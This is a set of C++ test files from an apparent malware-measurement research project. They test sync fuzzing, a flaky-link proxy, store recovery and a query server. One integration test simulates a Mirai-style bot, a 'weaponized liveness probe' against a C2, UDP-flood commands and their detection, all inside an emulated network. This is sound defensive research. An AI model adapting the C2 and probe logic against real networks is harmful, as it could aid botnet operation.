        sync::encode_sync_request({7, sync::SyncOp::kGet, get_req.take()}));
    util::ByteWriter tree_req;
    tree_req.lp16(std::string_view{preloaded.front()}.substr(0, 1));
    corpus.push_back(
        sync::encode_sync_request({8, sync::SyncOp::kTree, tree_req.take()}));
    corpus.push_back(sync::encode_sync_request(
        {9, sync::SyncOp::kPut, *producer.read_segment_bytes(hashes.front())}));
  }

  int cases = 60;
  if (const char* env = std::getenv("MALNET_FUZZ_CASES")) {
    cases = std::min(std::atoi(env), 500);
  }
  testkit::Mutator mutator;
  util::Rng rng(22);
  const auto hello = sync::encode_sync_request({9999, sync::SyncOp::kHello, {}});
  for (int i = 0; i < cases; ++i) {
    const auto& base = corpus[rng.uniform(0, corpus.size() - 1)];
    auto mutant = mutator.mutate(base, rng);
    // Sometimes pipeline garbage behind a valid frame, so corruption lands
    // mid-stream rather than only at connection start.
    if (rng.uniform(0, 3) == 0) {
      mutant.insert(mutant.begin(), hello.begin(), hello.end());
    }
    auto fd = util::tcp_connect("127.0.0.1", srv.port(), 2000);
    ASSERT_TRUE(fd.valid()) << "server stopped accepting at case " << i;
    (void)util::send_all(fd.get(), mutant, 1000);
    std::uint8_t buf[4096];
    for (int r = 0; r < 20; ++r) {
      if (util::recv_some(fd.get(), buf, sizeof(buf), 500) <= 0) break;
    }
  }

  // Liveness after the barrage: a real sync still completes.
  const auto stats = push_store(producer_dirs()[1], srv.port());
  ASSERT_TRUE(stats.has_value());
  EXPECT_EQ(stats->verify_failures, 0u);
  srv.server->stop();

  // Whatever the fuzzer managed to commit, the store reopens cleanly and
  // every journaled segment verifies against its content hash.
  store::Store st(dir);
  const auto hashes = st.segment_hashes();
  for (const auto& hash : hashes) {
    std::optional<util::Bytes> bytes;
    EXPECT_NO_THROW(bytes = st.read_segment_bytes(hash))
        << "journaled segment fails verification: " << hash;
    EXPECT_TRUE(bytes.has_value());
  }
  for (const auto& hash : preloaded) {
    EXPECT_TRUE(std::binary_search(hashes.begin(), hashes.end(), hash))
        << "fuzzing lost a committed segment";
  }
}

// --- Chaos: sync over a flaky link -------------------------------------------

namespace {

/// TCP proxy that forwards between the client and an upstream server while
/// injecting connection-level faults (drop, truncate-and-drop, stall) at
/// rates floored from the `flaky` chaos profile. Injection stops after
/// kMaxFaults so a retrying client is guaranteed to eventually converge.
class FlakyProxy {
 public:
  static constexpr int kMaxFaults = 25;

  FlakyProxy(std::uint16_t upstream_port, std::uint64_t seed)
      : upstream_port_(upstream_port), rng_(seed, 17) {
    auto listen = util::tcp_listen("127.0.0.1", 0);
    port_ = listen.port;
    listener_ = std::move(listen.fd);
    thread_ = std::thread([this] { run(); });
  }
  ~FlakyProxy() { stop(); }

  void stop() {
    if (thread_.joinable()) {
      stop_.store(true);
      thread_.join();
    }
  }

  [[nodiscard]] std::uint16_t port() const { return port_; }
  [[nodiscard]] int faults_injected() const { return faults_.load(); }

 private:
  void run() {
    while (!stop_.load()) {
      pollfd p{listener_.get(), POLLIN, 0};
      if (::poll(&p, 1, 50) <= 0) continue;
      util::Fd client(::accept(listener_.get(), nullptr, nullptr));
      if (!client.valid()) continue;
      util::set_nonblocking(client.get(), false);
      auto upstream = util::tcp_connect("127.0.0.1", upstream_port_, 2000);
      if (!upstream.valid()) continue;
      pump(client, upstream);
    }
  }

  /// Forwards until either side closes, a fault kills the connection, or
  /// the link goes idle. One connection at a time — the sync client is
  /// strictly request/response, so this never starves anyone.
  void pump(util::Fd& client, util::Fd& upstream) {
    const auto profile = faultsim::make_fault_config(faultsim::Profile::kFlaky);
    const double drop_p = std::max(0.04, profile.burst_start_prob);
    const double trunc_p = std::max(0.04, profile.truncate_prob);
    const double stall_p = std::max(0.08, profile.latency_spike_prob);
    std::uint8_t buf[16 * 1024];
    int idle = 0;
    while (!stop_.load() && idle < 100) {
      pollfd fds[2] = {{client.get(), POLLIN, 0}, {upstream.get(), POLLIN, 0}};
      const int ready = ::poll(fds, 2, 20);
      if (ready < 0) return;
      if (ready == 0) {
        ++idle;
        continue;
      }
      idle = 0;
      for (int side = 0; side < 2; ++side) {
        if (!(fds[side].revents & (POLLIN | POLLHUP | POLLERR))) continue;
        const int from = side == 0 ? client.get() : upstream.get();
        const int to = side == 0 ? upstream.get() : client.get();
        const auto n = ::recv(from, buf, sizeof(buf), 0);
        if (n <= 0) return;  // one side closed: tear the link down
        std::size_t forward = static_cast<std::size_t>(n);
        if (faults_.load() < kMaxFaults) {
          if (rng_.chance(drop_p)) {
            faults_.fetch_add(1);
            return;  // swallow the chunk and kill the connection
          }
          if (rng_.chance(trunc_p)) {
            faults_.fetch_add(1);
            forward /= 2;  // deliver a torn chunk, then kill the connection
            (void)util::send_all(to, {buf, forward}, 2000);
            return;
          }
          if (rng_.chance(stall_p)) {
            faults_.fetch_add(1);
            std::this_thread::sleep_for(std::chrono::milliseconds(40));
          }
        }
        if (!util::send_all(to, {buf, forward}, 2000)) return;
      }
    }
  }

  std::uint16_t upstream_port_;
  std::uint16_t port_ = 0;
  util::Fd listener_;
  util::Rng rng_;
  std::thread thread_;
  std::atomic<bool> stop_{false};
  std::atomic<int> faults_{0};
};

}  // namespace

TEST(Sync, FlakyLinkRetriesConvergeWithManifestIntactThroughout) {
  const auto dir = ::testing::TempDir() + "/sync_chaos";
  fs::remove_all(dir);
  SyncServer srv(dir);
  FlakyProxy proxy(srv.port(), 22);

  const serve::ClientOptions opts{.connect_timeout_ms = 1000,
                                  .io_timeout_ms = 2000,
                                  .max_retries = 1,
                                  .backoff_ms = 20};
  bool converged = false;
  int attempts = 0;
  for (; attempts < 40 && !converged; ++attempts) {
    bool all_pushed = true;
    for (const auto& producer : producer_dirs()) {
      if (!push_store(producer, proxy.port(), opts).has_value()) {
        all_pushed = false;  // failed cleanly; retry the whole producer
        break;
      }
    }
    // Whether or not the attempt survived the link, the aggregator must
    // reopen cleanly and every journaled segment must verify.
    store::Store check(dir);
    const auto hashes = check.segment_hashes();
    for (const auto& hash : hashes) {
      std::optional<util::Bytes> bytes;
      EXPECT_NO_THROW(bytes = check.read_segment_bytes(hash))
          << "manifest corrupted after a flaky attempt";
      EXPECT_TRUE(bytes.has_value());
    }
    converged = all_pushed && hashes.size() == 6;
  }
  EXPECT_TRUE(converged) << "no convergence in " << attempts << " attempts";
  EXPECT_GT(proxy.faults_injected(), 0) << "proxy never exercised a fault";

  // Converged means converged: compacting now matches the reference.
  proxy.stop();
  srv.server->stop();
  srv.server.reset();
  srv.handler.reset();
  srv.store.reset();
  {
    store::Store st(dir);
    (void)st.compact();
  }
  EXPECT_EQ(store_snapshot(dir), reference_snapshot());
}

// --- GC vs writers (the ISSUE 7 fix) -----------------------------------------

TEST(Store, GcSkipsWhileAnotherHandleHoldsTheWriterLock) {
  const auto dir = ::testing::TempDir() + "/sync_gc_guard";
  fs::remove_all(dir);
  {
    store::Store st(dir);
    (void)st.import_segment(util::BytesView{all_producer_segments()[0]});
  }
  // Crash litter: an unreferenced segment and a stale atomic-write temp —
  // exactly what a mid-import window looks like from outside.
  const auto litter_seg = dir + "/segments/feedfeedfeedfeed.seg";
  const auto litter_tmp = dir + "/segments/.feedfeed.seg.tmp7";
  std::ofstream(litter_seg, std::ios::binary) << "not-yet-journaled";
  std::ofstream(litter_tmp, std::ios::binary) << "half-written";

  // A "writer in another process": an independent shared hold on DIR/LOCK
  // (DirLock opens its own descriptor, so in-process handles contend too).
  const int fd =
      ::open((dir + "/LOCK").c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0644);
  ASSERT_GE(fd, 0);
  ASSERT_EQ(::flock(fd, LOCK_SH), 0);
  {
    store::Store st(dir);  // open runs GC — which must refuse to collect
    EXPECT_EQ(counter_value(st.metrics(), "store.gc_skipped"), 1u);
    EXPECT_EQ(counter_value(st.metrics(), "store.orphans_removed"), 0u);
    EXPECT_TRUE(fs::exists(litter_seg));
    EXPECT_TRUE(fs::exists(litter_tmp));
  }
  ::close(fd);  // the "writer" finishes (or its process dies)

  store::Store st(dir);  // now the same litter is collectable
  EXPECT_EQ(counter_value(st.metrics(), "store.orphans_removed"), 2u);
  EXPECT_FALSE(fs::exists(litter_seg));
  EXPECT_FALSE(fs::exists(litter_tmp));
  ASSERT_EQ(st.segment_hashes().size(), 1u);
  EXPECT_TRUE(st.read_segment_bytes(st.segment_hashes()[0]).has_value());
}

TEST(Sync, KilledSyncLeavesAResumableStoreThatReconverges) {
  // State a SIGKILL mid-import leaves behind: some segments journaled, one
  // renamed into place but never published in MANIFEST, one staging temp.
  const auto dir = ::testing::TempDir() + "/sync_killed";
  fs::remove_all(dir);
  std::vector<std::string> journaled;
  {
    store::Store st(dir);
    store::Store producer(producer_dirs()[0]);
    for (const auto& hash : producer.segment_hashes()) {
      (void)st.import_segment(util::BytesView{*producer.read_segment_bytes(hash)});
    }
    journaled = st.segment_hashes();
  }
  {
    store::Store producer(producer_dirs()[1]);
    const auto hash = producer.segment_hashes().front();
    const auto bytes = *producer.read_segment_bytes(hash);
    const auto name = hash.substr(0, 16) + ".seg";
    std::ofstream(dir + "/segments/" + name, std::ios::binary)
        .write(reinterpret_cast<const char*>(bytes.data()),
               static_cast<std::streamsize>(bytes.size()));
    std::ofstream(dir + "/segments/." + name + ".tmp123", std::ios::binary)
        .write(reinterpret_cast<const char*>(bytes.data()),
               static_cast<std::streamsize>(bytes.size() / 2));
  }

  // Nobody holds the lock after a SIGKILL, so reopening collects both
  // litter files and the journaled set is exactly what was published.
  {
    store::Store st(dir);
    EXPECT_EQ(counter_value(st.metrics(), "store.orphans_removed"), 2u);
    EXPECT_EQ(st.segment_hashes(), journaled);
  }

  // The interrupted sync simply reruns: refinement re-discovers the lost
  // segment and the aggregator still converges to the reference bytes.
  {
    SyncServer srv(dir);
    for (int i : {1, 2}) {
      const auto stats = push_store(producer_dirs()[i], srv.port());
      ASSERT_TRUE(stats.has_value());
      EXPECT_EQ(stats->segments_sent, 2u);
    }
    const auto again = push_store(producer_dirs()[1], srv.port());
    ASSERT_TRUE(again.has_value());
    EXPECT_EQ(again->segments_sent, 0u);
    srv.server->stop();
  }
  {
    store::Store st(dir);
    (void)st.compact();
  }
  EXPECT_EQ(store_snapshot(dir), reference_snapshot());
}

// --- traced sync frames and session introspection (ISSUE 8) -----------------

TEST(SyncWire, TracedRequestRoundTripAndBackwardCompat) {
  // Untraced requests keep the MSY1 magic byte-for-byte.
  const sync::SyncRequest untraced{5, sync::SyncOp::kHello,
                                   util::to_bytes("hi")};
  const auto v1 = sync::encode_sync_request(untraced);
  ASSERT_GE(v1.size(), serve::kFramePrefixSize + 4);
  EXPECT_EQ(v1[7], '1');

  sync::SyncRequest traced = untraced;
  traced.trace_id = 0xCAFE;
  traced.span_id = 3;
  const auto v2 = sync::encode_sync_request(traced);
  EXPECT_EQ(v2[7], '2');
  EXPECT_EQ(v2.size(), v1.size() + 16);
  serve::FrameReader reader(sync::kMaxSyncFrameBody);
  reader.feed(v2);
  const auto body = reader.next();
  ASSERT_TRUE(body.has_value());
  const auto decoded = sync::decode_sync_request(*body);
  ASSERT_TRUE(decoded.has_value());
  EXPECT_EQ(*decoded, traced);
  const auto short_v2 = util::Bytes(
      body->begin(), body->begin() + sync::kSyncRequestHeaderSizeV2 - 1);
  EXPECT_FALSE(sync::decode_sync_request(util::BytesView{short_v2}).has_value());
}

TEST(Sync, TracedPushSharesOneTraceIdAcrossBothNodes) {
  const auto replica = ::testing::TempDir() + "/sync_trace_replica";
  fs::remove_all(replica);
  obs::SpanRecorder server_spans;
  server_spans.set_enabled(true);
  SyncServer srv(replica);
  srv.handler->set_span_recorder(&server_spans);

  store::Store producer(producer_dirs()[0]);
  sync::SyncClient client(producer);
  client.enable_tracing(0xAB5012);
  EXPECT_EQ(client.trace_id(), 0xAB5012u);
  ASSERT_TRUE(client.connect("127.0.0.1", srv.port()));
  const auto stats = client.push();
  ASSERT_TRUE(stats.has_value());
  EXPECT_GT(stats->segments_sent, 0u);
  srv.server->stop();

  // Client side: one wall span per rpc, all on the one trace id, span ids
  // unique (they are the request ids).
  const auto& client_events = client.trace_events();
  ASSERT_GE(client_events.size(), 2u);
  std::set<std::uint64_t> span_ids;
  for (const auto& ev : client_events) {
    EXPECT_EQ(ev.trace_id, 0xAB5012u);
    EXPECT_EQ(ev.clock, 'w');
    EXPECT_EQ(ev.phase, 'X');
    EXPECT_EQ(ev.category, "sync");
    span_ids.insert(ev.span_id);
  }
  EXPECT_EQ(span_ids.size(), client_events.size());

  // Server side: a matching span per rpc, sharing the trace AND span ids —
  // what makes the merged Chrome trace line up per request.
  const auto server_events = server_spans.snapshot();
  ASSERT_EQ(server_events.size(), client_events.size());
  for (const auto& ev : server_events) {
    EXPECT_EQ(ev.trace_id, 0xAB5012u);
    EXPECT_EQ(ev.name.rfind("serve:sync:", 0), 0u);
    EXPECT_TRUE(span_ids.count(ev.span_id)) << ev.span_id;
  }

  // And the two sides merge into one parseable Chrome trace document.
  const auto merged = obs::merge_chrome_traces(
      {{"sync-client", obs::chrome_trace_json(client_events)},
       {"serve", obs::chrome_trace_json(server_events)}});
  ASSERT_TRUE(merged.has_value());
  EXPECT_TRUE(obs::json::parse(*merged).has_value());
}

TEST(Sync, SessionSlowLogRecordsOpsWithPeer) {
  const auto replica = ::testing::TempDir() + "/sync_slowlog_replica";
  fs::remove_all(replica);
  SyncServer srv(replica);
  srv.handler->configure_slow_log(/*capacity=*/8, /*threshold_us=*/0);

  ASSERT_TRUE(push_store(producer_dirs()[0], srv.port()).has_value());
  srv.server->stop();

  const auto& log = srv.handler->slow_log();
  EXPECT_GT(log.seen(), 0u);
  const auto entries = log.entries();
  ASSERT_FALSE(entries.empty());
  bool saw_put = false;
  for (const auto& e : entries) {
    EXPECT_EQ(e.op.rfind("sync:", 0), 0u);
    EXPECT_NE(e.peer.find("127.0.0.1:"), std::string::npos);
    saw_put = saw_put || e.op == "sync:put";
  }
  EXPECT_TRUE(saw_put);
}
