// Integration test: the full eavesdropping chain of §2.5 — an attacker C2,
// a weaponized liveness probe, then a restricted live run during which the
// C2 issues its attack plan and the DDoS detector recovers the commands.
#include <gtest/gtest.h>

#include "botnet/c2server.hpp"
#include "core/c2detect.hpp"
#include "core/ddos.hpp"
#include "core/prober.hpp"
#include "emu/sandbox.hpp"
#include "mal/binary.hpp"

using namespace malnet;

namespace {

mal::MbfBinary make_mirai_bot(net::Ipv4 c2_ip, net::Port c2_port) {
  mal::MbfBinary bin;
  bin.behavior.family = proto::Family::kMirai;
  bin.behavior.c2_ip = c2_ip;
  bin.behavior.c2_port = c2_port;
  bin.behavior.bot_id = "testbot";
  bin.behavior.keepalive_s = 60;
  bin.marker_strings = {mal::family_marker(proto::Family::kMirai)};
  return bin;
}

}  // namespace

TEST(LiveChain, AttackerC2IssuesCommandsDuringLiveRun) {
  sim::EventScheduler sched;
  sim::Network net(sched);

  const net::Ipv4 c2_ip{60, 1, 2, 3};
  botnet::C2ServerConfig cfg;
  cfg.family = proto::Family::kMirai;
  cfg.ip = c2_ip;
  cfg.port = 23;
  cfg.accept_prob = 1.0;
  cfg.mean_dormancy = sim::Duration::minutes(30);
  proto::AttackCommand atk;
  atk.type = proto::AttackType::kUdpFlood;
  atk.target = {net::Ipv4{203, 0, 113, 9}, 8080};
  atk.duration_s = 30;
  cfg.attack_plan = {atk, atk};
  botnet::C2Server server(net, cfg, util::Rng(1));

  emu::Sandbox sandbox(net);
  util::Rng rng(2);
  util::Bytes binary = mal::forge(make_mirai_bot(c2_ip, 23), rng);

  // Phase 1: weaponized liveness probe engages the C2.
  bool probed = false, engaged = false;
  core::probe_liveness(sandbox, core::Weapon{binary, {c2_ip, 23}}, {c2_ip, 23},
                       [&](core::LivenessResult res) {
                         probed = true;
                         engaged = res.engaged;
                       });
  sched.run_until(sim::SimTime{} + sim::Duration::minutes(5));
  ASSERT_TRUE(probed);
  ASSERT_TRUE(engaged) << "C2 with accept_prob=1 must engage the probe";

  // Phase 2: restricted live run; the C2 is dormant right after the probe
  // but the bot's retry loop must ride that out.
  emu::SandboxOptions live;
  live.mode = emu::SandboxMode::kLive;
  live.duration = sim::Duration::hours(2);
  live.allowed_c2 = net::Endpoint{c2_ip, 23};
  live.c2_retry_limit = 120;
  live.c2_retry_delay = sim::Duration::seconds(60);

  bool done = false;
  emu::SandboxReport live_report;
  sandbox.start(binary, live, [&](const emu::SandboxReport& r) {
    done = true;
    live_report = r;
  });
  sched.run_until(sched.now() + sim::Duration::hours(3));
  ASSERT_TRUE(done);
  EXPECT_GE(server.commands_issued(), 2u) << "C2 should issue its plan to the bot";
  EXPECT_GE(live_report.commands.size(), 2u) << "bot should decode the commands";

  const auto detections = core::detect_ddos(live_report, {c2_ip, 23},
                                            proto::Family::kMirai);
  ASSERT_GE(detections.size(), 1u);
  EXPECT_TRUE(detections.front().verified);
  EXPECT_EQ(detections.front().command.target.ip, atk.target.ip);
}

TEST(LiveChain, IrcBorneAttackIsRecoveredByTheHeuristicOnly) {
  // §2.5b: "In order to cover other malware families and new variants, we
  // employ a heuristic detection method." A Tsunami C2 issues its command
  // inside IRC PRIVMSG — the three protocol profiles miss it; the >100 pps
  // heuristic recovers it and verifies the target inside the raw command.
  sim::EventScheduler sched;
  sim::Network net(sched);

  botnet::C2ServerConfig cfg;
  cfg.family = proto::Family::kTsunami;
  cfg.ip = net::Ipv4{60, 3, 3, 3};
  cfg.port = 6667;
  cfg.accept_prob = 1.0;
  proto::AttackCommand atk;
  atk.type = proto::AttackType::kUdpFlood;
  atk.target = {net::Ipv4{203, 0, 113, 50}, 8080};
  atk.duration_s = 30;
  cfg.attack_plan = {atk};
  botnet::C2Server server(net, cfg, util::Rng(3));

  mal::MbfBinary bin;
  bin.behavior.family = proto::Family::kTsunami;
  bin.behavior.c2_ip = cfg.ip;
  bin.behavior.c2_port = 6667;
  bin.behavior.bot_id = "tsunami-bot";
  util::Rng rng(4);

  emu::Sandbox sandbox(net);
  emu::SandboxOptions live;
  live.mode = emu::SandboxMode::kLive;
  live.duration = sim::Duration::hours(1);
  live.allowed_c2 = server.endpoint();

  emu::SandboxReport report;
  sandbox.start(mal::forge(bin, rng), live,
                [&](const emu::SandboxReport& r) { report = r; });
  sched.run_until(sched.now() + sim::Duration::hours(2));

  ASSERT_GE(report.commands.size(), 1u) << "bot must act on the PRIVMSG order";

  // Without a family hint, all three profiles run — none decodes IRC, so
  // detection must come from the behavioural method.
  const auto dets = core::detect_ddos(report, server.endpoint(), std::nullopt);
  ASSERT_EQ(dets.size(), 1u);
  EXPECT_EQ(dets[0].method, core::DdosMethod::kBehaviouralHeuristic);
  EXPECT_TRUE(dets[0].verified) << "target IP appears textually in the PRIVMSG";
  EXPECT_EQ(dets[0].command.target.ip, atk.target.ip);
  EXPECT_EQ(dets[0].command.type, proto::AttackType::kUdpFlood);
}
