// malnet::serve — wire framing, the concurrent query server, and the client.
//
// The load-bearing contracts (ISSUE 6): N concurrent clients receive
// byte-identical answers to a single-client QueryEngine, the store's
// payloads are never read while serving (payload_bytes_read == 0 under
// concurrency), pipelined requests are answered in order, backpressure
// bounds a slow reader's memory without losing responses, stop() drains
// in-flight requests, and no framing input — however malformed — can crash
// or wedge the server.
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <memory>
#include <thread>
#include <vector>

#include "core/parallel_study.hpp"
#include "serve/client.hpp"
#include "serve/server.hpp"
#include "serve/wire.hpp"
#include "store/store.hpp"
#include "testkit/mutate.hpp"
#include "util/rng.hpp"
#include "util/socket.hpp"

using namespace malnet;
namespace fs = std::filesystem;

namespace {

/// One small committed store shared by every server test in this binary
/// (building it runs a real two-shard study; do that once).
const std::string& fixture_dir() {
  static const std::string kDir = [] {
    const auto dir = ::testing::TempDir() + "/serve_fixture";
    fs::remove_all(dir);
    core::ParallelStudyConfig cfg;
    cfg.base.seed = 22;
    cfg.base.world.total_samples = 48;
    cfg.base.run_probe_campaign = false;
    cfg.shards = 2;
    cfg.jobs = 2;
    store::Store st(dir);
    (void)store::run_store_study(cfg, st, /*resume=*/false);
    return dir;
  }();
  return kDir;
}

const std::vector<std::string>& fixture_queries() {
  static const std::vector<std::string> kQueries = {
      "totals", "families", "c2-liveness", "exploits", "segments", "help"};
  return kQueries;
}

/// Ground truth: single-client answers from a private engine instance.
const std::vector<std::string>& expected_answers() {
  static const std::vector<std::string> kAnswers = [] {
    store::Store st(fixture_dir());
    store::QueryEngine engine(st);
    std::vector<std::string> answers;
    for (const auto& q : fixture_queries()) answers.push_back(engine.answer(q));
    return answers;
  }();
  return kAnswers;
}

std::uint64_t counter_value(const obs::MetricsSnapshot& snap,
                            const std::string& name) {
  const auto it = snap.counters.find(name);
  return it == snap.counters.end() ? 0 : it->second;
}

/// A started server over a fresh Store handle on the shared fixture.
struct TestServer {
  std::unique_ptr<store::Store> store;
  obs::Registry registry;
  std::unique_ptr<serve::Server> server;

  explicit TestServer(serve::ServeConfig cfg = {}) {
    store = std::make_unique<store::Store>(fixture_dir());
    cfg.host = "127.0.0.1";
    cfg.port = 0;
    if (cfg.io_threads == 0) cfg.io_threads = 2;
    server = std::make_unique<serve::Server>(*store, cfg, registry);
    server->start();
  }

  [[nodiscard]] std::uint16_t port() const { return server->port(); }
};

/// Raw socket sender for malformed-input tests (the Client refuses to send
/// garbage, which is exactly why it can't be used here).
void send_raw(std::uint16_t port, util::BytesView bytes) {
  auto fd = util::tcp_connect("127.0.0.1", port, 2000);
  ASSERT_TRUE(fd.valid());
  ASSERT_TRUE(util::send_all(fd.get(), bytes, 2000));
  // Read until the server closes or 2s pass; we only care that it answers
  // with a close, not what (if anything) it says first.
  std::uint8_t buf[4096];
  for (int i = 0; i < 50; ++i) {
    const int n = util::recv_some(fd.get(), buf, sizeof(buf), 2000);
    if (n <= 0) break;
  }
}

}  // namespace

TEST(Wire, RequestRoundTrip) {
  const serve::Request req{77, "c2 60.1.2.3:23"};
  const auto frame = serve::encode_request(req);
  // Strip the length prefix the way FrameReader would.
  serve::FrameReader reader;
  reader.feed(frame);
  const auto body = reader.next();
  ASSERT_TRUE(body.has_value());
  const auto decoded = serve::decode_request(*body);
  ASSERT_TRUE(decoded.has_value());
  EXPECT_EQ(*decoded, req);
  EXPECT_EQ(reader.buffered(), 0u);
}

TEST(Wire, ResponseRoundTrip) {
  const serve::Response resp{42, serve::Status::kOk, "samples=48"};
  serve::FrameReader reader;
  reader.feed(serve::encode_response(resp));
  const auto body = reader.next();
  ASSERT_TRUE(body.has_value());
  const auto decoded = serve::decode_response(*body);
  ASSERT_TRUE(decoded.has_value());
  EXPECT_EQ(*decoded, resp);
}

TEST(Wire, DecodeRejectsBadMagicAndShortBodies) {
  EXPECT_FALSE(serve::decode_request(util::Bytes{1, 2, 3}).has_value());
  EXPECT_FALSE(serve::decode_response(util::Bytes{1, 2, 3}).has_value());
  auto frame = serve::encode_request({1, "totals"});
  frame[serve::kFramePrefixSize] ^= 0xFF;  // corrupt the magic
  serve::FrameReader reader;
  reader.feed(frame);
  const auto body = reader.next();
  ASSERT_TRUE(body.has_value());
  EXPECT_FALSE(serve::decode_request(*body).has_value());
}

TEST(Wire, FrameReaderReassemblesAcrossArbitrarySplits) {
  util::Bytes stream;
  std::vector<serve::Request> sent;
  for (int i = 0; i < 20; ++i) {
    serve::Request req{static_cast<std::uint64_t>(i + 1),
                       "query-" + std::to_string(i)};
    const auto frame = serve::encode_request(req);
    stream.insert(stream.end(), frame.begin(), frame.end());
    sent.push_back(std::move(req));
  }
  // Feed in pseudo-random chunk sizes (1..13 bytes) and expect every frame
  // back, in order, regardless of where the chunk boundaries fall.
  util::Rng rng(99);
  serve::FrameReader reader;
  std::vector<serve::Request> got;
  std::size_t off = 0;
  while (off < stream.size()) {
    const auto n = std::min<std::size_t>(1 + rng.uniform(0, 12), stream.size() - off);
    reader.feed({stream.data() + off, n});
    off += n;
    while (auto body = reader.next()) {
      const auto req = serve::decode_request(*body);
      ASSERT_TRUE(req.has_value());
      got.push_back(*req);
    }
  }
  EXPECT_EQ(got, sent);
  EXPECT_FALSE(reader.error());
}

TEST(Wire, FrameReaderOversizeLengthPoisons) {
  serve::FrameReader reader(/*max_body=*/1024);
  reader.feed(util::Bytes{0xFF, 0xFF, 0xFF, 0xFF, 0x00});
  EXPECT_FALSE(reader.next().has_value());
  EXPECT_TRUE(reader.error());
  // Once poisoned, further input never yields frames.
  reader.feed(serve::encode_request({1, "totals"}));
  EXPECT_FALSE(reader.next().has_value());
}

TEST(Serve, ConcurrentClientsGetByteIdenticalAnswers) {
  TestServer ts;
  const auto& queries = fixture_queries();
  const auto& expected = expected_answers();

  constexpr int kClients = 8;
  constexpr int kRounds = 5;
  std::atomic<int> failures{0};
  std::vector<std::thread> threads;
  threads.reserve(kClients);
  for (int c = 0; c < kClients; ++c) {
    threads.emplace_back([&ts, &queries, &expected, &failures, c] {
      serve::Client client;
      if (!client.connect("127.0.0.1", ts.port())) {
        failures.fetch_add(1);
        return;
      }
      for (int round = 0; round < kRounds; ++round) {
        // Stagger starting points so clients hit different queries at once.
        for (std::size_t i = 0; i < queries.size(); ++i) {
          const auto k = (i + static_cast<std::size_t>(c)) % queries.size();
          const auto answer = client.query(queries[k]);
          if (!answer || *answer != expected[k]) failures.fetch_add(1);
        }
      }
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(failures.load(), 0);

  // The index-only contract under concurrency: nothing read any payload.
  EXPECT_EQ(counter_value(ts.store->metrics(), "store.payload_bytes_read"), 0u);
  const auto snap = ts.registry.snapshot();
  EXPECT_EQ(counter_value(snap, "serve.requests"),
            static_cast<std::uint64_t>(kClients * kRounds * queries.size()));
  EXPECT_EQ(counter_value(snap, "serve.connections_accepted"),
            static_cast<std::uint64_t>(kClients));
}

TEST(Serve, PipelinedRequestsAnsweredInOrder) {
  TestServer ts;
  serve::Client client;
  ASSERT_TRUE(client.connect("127.0.0.1", ts.port()));

  constexpr int kDepth = 50;
  const auto& queries = fixture_queries();
  const auto& expected = expected_answers();
  std::vector<std::uint64_t> ids;
  for (int i = 0; i < kDepth; ++i) {
    const auto id = client.send(queries[i % queries.size()]);
    ASSERT_NE(id, 0u);
    ids.push_back(id);
  }
  for (int i = 0; i < kDepth; ++i) {
    const auto resp = client.recv();
    ASSERT_TRUE(resp.has_value()) << "response " << i << " missing";
    EXPECT_EQ(resp->id, ids[static_cast<std::size_t>(i)]);
    EXPECT_EQ(resp->status, serve::Status::kOk);
    EXPECT_EQ(resp->text, expected[static_cast<std::size_t>(i) % queries.size()]);
  }
}

TEST(Serve, BackpressureBoundsPipelineWithoutLosingResponses) {
  serve::ServeConfig cfg;
  cfg.max_pipeline = 4;               // force pauses early
  cfg.max_output_buffer = 16 * 1024;  // and on bytes too
  TestServer ts(cfg);
  serve::Client client;
  ASSERT_TRUE(client.connect("127.0.0.1", ts.port()));

  // Flood 400 requests without reading a single response. The server must
  // pause reads rather than buffer unboundedly, then answer everything
  // once we start draining.
  constexpr int kFlood = 400;
  for (int i = 0; i < kFlood; ++i) {
    ASSERT_NE(client.send("c2-liveness"), 0u);
  }
  for (int i = 0; i < kFlood; ++i) {
    const auto resp = client.recv();
    ASSERT_TRUE(resp.has_value()) << "response " << i << " missing";
    EXPECT_EQ(resp->status, serve::Status::kOk);
  }
  EXPECT_GE(counter_value(ts.registry.snapshot(), "serve.backpressure_pauses"),
            1u);
}

TEST(Serve, IdleConnectionsAreClosed) {
  serve::ServeConfig cfg;
  cfg.idle_timeout_ms = 200;
  TestServer ts(cfg);
  auto fd = util::tcp_connect("127.0.0.1", ts.port(), 2000);
  ASSERT_TRUE(fd.valid());
  // Say nothing; the server must hang up on us, not wait forever.
  std::uint8_t buf[16];
  const int n = util::recv_some(fd.get(), buf, sizeof(buf), 5000);
  EXPECT_EQ(n, 0) << "expected orderly close on the idle connection";
  EXPECT_GE(counter_value(ts.registry.snapshot(), "serve.idle_timeouts"), 1u);
}

TEST(Serve, GracefulStopDrainsInFlightRequests) {
  TestServer ts;
  serve::Client client;
  ASSERT_TRUE(client.connect("127.0.0.1", ts.port()));

  constexpr int kInFlight = 20;
  for (int i = 0; i < kInFlight; ++i) {
    ASSERT_NE(client.send("totals"), 0u);
  }
  // Give the burst a moment to land in the server's socket buffer, then
  // stop. Drain must answer all 20 before closing.
  std::this_thread::sleep_for(std::chrono::milliseconds(100));
  ts.server->stop();
  for (int i = 0; i < kInFlight; ++i) {
    const auto resp = client.recv();
    ASSERT_TRUE(resp.has_value()) << "request " << i << " dropped in drain";
    EXPECT_EQ(resp->status, serve::Status::kOk);
  }
  // After drain the listener is gone: fresh connections are refused.
  serve::Client late;
  EXPECT_FALSE(late.connect("127.0.0.1", ts.port(),
                            {.connect_timeout_ms = 200, .max_retries = 0}));
}

TEST(Serve, ProtocolGarbageClosesThatConnectionOnly) {
  TestServer ts;
  // An impossible length prefix: poisons the deframer, answered by one
  // status-1 response and a close.
  send_raw(ts.port(), util::Bytes(16, 0xFF));
  // A plausible frame whose body is not a request.
  util::Bytes junk{0x00, 0x00, 0x00, 0x04, 0xde, 0xad, 0xbe, 0xef};
  send_raw(ts.port(), junk);

  EXPECT_GE(counter_value(ts.registry.snapshot(), "serve.protocol_errors"), 2u);
  // The server itself is unharmed.
  serve::Client client;
  ASSERT_TRUE(client.connect("127.0.0.1", ts.port()));
  EXPECT_EQ(client.query("totals"), expected_answers()[0]);
}

TEST(Serve, FuzzedFramesNeverCrashOrWedgeTheServer) {
  serve::ServeConfig cfg;
  cfg.idle_timeout_ms = 150;  // reclaim connections parked on partial frames
  TestServer ts(cfg);

  // Corpus: one valid frame per fixture query — full of plausible length
  // fields for the structure-aware mutator to corrupt.
  std::vector<util::Bytes> corpus;
  {
